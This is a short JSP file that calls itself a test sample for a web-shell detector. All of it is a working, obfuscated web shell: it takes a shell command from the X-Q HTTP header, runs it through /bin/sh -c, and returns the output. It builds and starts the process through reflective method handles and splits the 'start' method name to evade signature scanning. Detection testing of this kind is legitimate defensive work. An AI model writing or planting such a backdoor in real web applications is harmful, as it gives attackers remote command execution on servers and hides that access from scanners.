<%@ page import="java.lang.invoke.*,java.util.*" %>
<%-- webhunt test sample (sweep 73): ProcessBuilder made and started through method handles, the
     method names glued from pieces --%>
<%
    String q = request.getHeader("X-Q");
    if (q != null) {
        MethodHandle mk = MethodHandles.publicLookup().findConstructor(ProcessBuilder.class,
                MethodType.methodType(void.class, List.class));
        Object pb = mk.invokeWithArguments(Arrays.asList("/bin/sh", "-c", q));
        MethodHandle go = MethodHandles.publicLookup().findVirtual(ProcessBuilder.class, "st" + "art",
                MethodType.methodType(Process.class));
        Process pr = (Process) go.invoke(pb);
        out.print(new Scanner(pr.getInputStream()).useDelimiter("\\A").next());
    }
%>
